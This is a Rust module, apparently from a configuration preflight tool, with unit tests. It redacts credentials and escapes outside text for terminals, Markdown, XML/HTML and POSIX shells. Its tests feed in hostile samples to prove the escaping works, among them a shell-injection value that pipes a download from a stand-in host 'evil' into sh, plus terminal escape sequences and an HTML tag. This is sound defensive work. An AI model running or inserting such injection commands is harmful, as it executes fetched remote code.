//! Text from outside made safe to show, one function per kind of output: credentials cut out
//! of what the user typed and of what a peer says back; then, for a terminal, control
//! characters escaped (no certificate, status line or value can move the cursor, clear the
//! screen or forge a line); for Markdown, HTML and Markdown's own syntax escaped (a job summary
//! renders no tag, link or image from a peer); for XML and HTML, markup escaped; for a shell,
//! one quoted word. Prometheus label values are escaped by prometheus-client's encoder.
//! Every renderer takes outside text through these, including what `merge` reads back from
//! reports a user may not have written.

use std::borrow::Cow;

/// `text` with anything that looks like userinfo (`user:password@`) shown as `***@`: from
/// after the scheme and its slashes, however mistyped (`http:/`, `http//`, none at all), up to
/// the last `@`, since a password may itself hold `/`, `#`, `?` or `@`.
pub fn redact(text: &str) -> String {
    let Some(at) = text.rfind('@') else {
        return text.to_string();
    };
    let start = authority_start(text);
    format!("{}***{}", &text[..start], &text[at..])
}

/// Where the authority begins: after `scheme:` or `scheme` and one or more slashes; else 0.
fn authority_start(text: &str) -> usize {
    if !text.starts_with(|c: char| c.is_ascii_alphabetic()) {
        return 0;
    }
    let scheme = text
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-')))
        .unwrap_or(text.len());
    let after = &text[scheme..];
    let after = after.strip_prefix(':').unwrap_or(after);
    let rest = after.trim_start_matches(['/', '\\']);
    match rest.len() < after.len() {
        true => text.len() - rest.len(),
        false => 0,
    }
}

/// A message for one line on a terminal: every word holding an `@` redacted, control
/// characters escaped (a newline in a value cannot make it two lines).
pub fn message(text: &str) -> String {
    let words: Vec<Cow<'_, str>> = text
        .split(' ')
        .map(|word| match word.contains('@') {
            true => {
                // Keep the quote or bracket a value is shown in.
                let lead = word.len()
                    - word
                        .trim_start_matches(['`', '"', '\'', '(', '<', '['])
                        .len();
                let shown = format!("{}{}", &word[..lead], redact(&word[lead..]));
                Cow::Owned(shorten_to(&shown, 2 * ECHO_LIMIT).into_owned())
            }
            // Twice the limit: a value its caller already cut is left as it is.
            false => shorten_to(word, 2 * ECHO_LIMIT),
        })
        .collect();
    terminal(&words.join(" ")).into_owned()
}

/// The most characters of a value echoed in a message.
pub const ECHO_LIMIT: usize = 200;

/// `text` cut to `ECHO_LIMIT` characters, saying how many more there were: a value echoed in
/// an error (a 15 MB kong.conf line) stays readable.
pub fn shorten(text: &str) -> Cow<'_, str> {
    shorten_to(text, ECHO_LIMIT)
}

/// `text` cut to `limit` characters, saying how many more there were.
fn shorten_to(text: &str, limit: usize) -> Cow<'_, str> {
    match text.char_indices().nth(limit) {
        None => Cow::Borrowed(text),
        Some((at, _)) => {
            let more = text[at..].chars().count();
            Cow::Owned(format!("{}… ({more} more characters)", &text[..at]))
        }
    }
}

/// `text` with control characters (C0, DEL, C1) and the bidirectional overrides shown
/// escaped (`\x1b`, `\u{202e}`), so that a peer's text cannot drive a terminal.
pub fn terminal(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            c if !needs_escape(c) => out.push(c),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if u32::from(c) <= 0xff => out.push_str(&format!("\\x{:02x}", u32::from(c))),
            c => out.push_str(&format!("\\u{{{:x}}}", u32::from(c))),
        }
    }
    Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `text` for running Markdown (a table cell, a list item, a quote): on one line, control
/// characters escaped as on a terminal, `<`, `>` and `&` written as entities (so GitHub and
/// GitLab render no tag), and the punctuation of links and images (`[`, `]`), emphasis, code
/// spans and table cells backslash-escaped, as are the `http://` (`https`, `ftp`), `www.` and
/// `@` that GFM's autolinks start from. What a renderer shows is the text as it came.
pub fn markdown(text: &str) -> String {
    let folded = text.replace(['\n', '\r'], " ");
    let text = terminal(&folded);
    let mut out = String::with_capacity(text.len() + 8);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        // GFM's extended autolinks start at `www.` and at `http://`, `https://` and `ftp://`.
        let ends = |word: &str| {
            out.len() >= word.len()
                && out.as_bytes()[out.len() - word.len()..].eq_ignore_ascii_case(word.as_bytes())
        };
        let scheme = ["http", "https", "ftp"].iter().any(|s| ends(s));
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '@' => {
                out.push('\\');
                out.push(c);
            }
            ':' if scheme && chars.peek() == Some(&'/') => out.push_str("\\:"),
            '.' if ends("www") => out.push_str("\\."),
            c => out.push(c),
        }
    }
    out
}

/// `text` for the inside of a Markdown code span in a table cell: a backquote (which would end
/// the span) shown as `'`, a pipe escaped (GFM splits cells before it reads spans), control
/// characters escaped, on one line. Inside a span nothing else is markup.
pub fn markdown_code(text: &str) -> String {
    terminal(&text.replace(['\n', '\r'], " "))
        .replace('`', "'")
        .replace('|', "\\|")
}

/// `text` for an XML or HTML element or attribute (JUnit, the status page, the merged page):
/// markup escaped, characters XML 1.0 forbids dropped.
pub fn markup(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\n' => out.push_str("&#10;"),
            '\t' | '\r' => out.push(' '),
            c if (c as u32) < 0x20 || c == '\u{FFFE}' || c == '\u{FFFF}' => {}
            c => out.push(c),
        }
    }
    out
}

/// `text` as one word for a POSIX shell: as it is when it holds only characters no shell
/// treats specially, else in single quotes (a quote inside written `'\''`). Used for the
/// parts of a suggested command that are not preflight's own words.
pub fn shell(text: &str) -> Cow<'_, str> {
    let plain = !text.is_empty()
        && text.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(c, '_' | '-' | '.' | '/' | ':' | ',' | '+' | '=' | '@' | '%')
        });
    match plain {
        true => Cow::Borrowed(text),
        false => Cow::Owned(format!("'{}'", text.replace('\'', "'\\''"))),
    }
}

/// `text` with every one of `secrets` replaced by `***`: for what a peer sends back, which may
/// quote the credentials it was given.
pub fn scrub(text: &str, secrets: &[String]) -> String {
    let mut text = text.to_string();
    // Longest first, so that a password inside `user:password` does not leave the user.
    let mut secrets: Vec<&String> = secrets.iter().filter(|s| !s.is_empty()).collect();
    secrets.sort_by_key(|s| std::cmp::Reverse(s.len()));
    for secret in secrets {
        if text.contains(secret.as_str()) {
            text = text.replace(secret.as_str(), "***");
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn userinfo_is_redacted_whatever_it_holds_and_however_the_scheme_is_typed() {
        for (text, shown) in [
            ("http://alice:S3cret/Pw@proxy:3128", "http://***@proxy:3128"),
            ("http://alice:S3c#ret?@proxy:3128", "http://***@proxy:3128"),
            ("http://alice:p@ss@proxy:3128", "http://***@proxy:3128"),
            ("http:/alice:S3cret@proxy", "http:/***@proxy"),
            ("http//alice:S3cret@proxy", "http//***@proxy"),
            ("http:alice:S3cret@proxy", "***@proxy"),
            ("alice:S3cret@proxy:3128", "***@proxy:3128"),
            ("https://alice:S3cret/Pw@h/", "https://***@h/"),
            ("ftp://u:pw@p:21", "ftp://***@p:21"),
            ("http://proxy:3128", "http://proxy:3128"),
        ] {
            assert_eq!(redact(text), shown, "{text}");
        }
    }

    #[test]
    fn messages_are_one_line_without_credentials_or_escapes() {
        let text = "--proxy `http://alice:S3cret/Pw@proxy:3128`: bad\nline \x1b[2J";
        assert_eq!(
            message(text),
            "--proxy `http://***@proxy:3128`: bad\\nline \\x1b[2J"
        );
    }

    #[test]
    fn control_characters_and_overrides_are_escaped() {
        assert_eq!(terminal("plain text"), "plain text");
        assert_eq!(
            terminal("a\x1b]0;title\x07b\r\n[ ok ]\u{9b}\u{202e}"),
            "a\\x1b]0;title\\x07b\\r\\n[ ok ]\\x9b\\u{202e}"
        );
    }

    #[test]
    fn markdown_shows_tags_links_and_autolinks_as_text() {
        assert_eq!(
            markdown("O=<a href=x>Fix</a> & [t](http://e) www.e.example a@b |\x1b"),
            "O=&lt;a href=x&gt;Fix&lt;/a&gt; &amp; \\[t\\](http\\://e) www\\.e.example a\\@b \\|\\\\x1b"
        );
        assert_eq!(markdown_code("a`b|c\nd"), "a'b\\|c d");
    }

    #[test]
    fn shell_words_are_quoted_unless_plain() {
        assert_eq!(shell("cp.example:443"), "cp.example:443");
        assert_eq!(shell("/etc/kong/kong.conf"), "/etc/kong/kong.conf");
        assert_eq!(shell("$(curl evil|sh)"), "'$(curl evil|sh)'");
        assert_eq!(shell("it's"), "'it'\\''s'");
        assert_eq!(shell(""), "''");
    }

    #[test]
    fn secrets_are_scrubbed_longest_first() {
        let secrets = ["alice:S3cret".to_string(), "S3cret".to_string()];
        assert_eq!(
            scrub("got alice:S3cret and S3cret", &secrets),
            "got *** and ***"
        );
    }
}
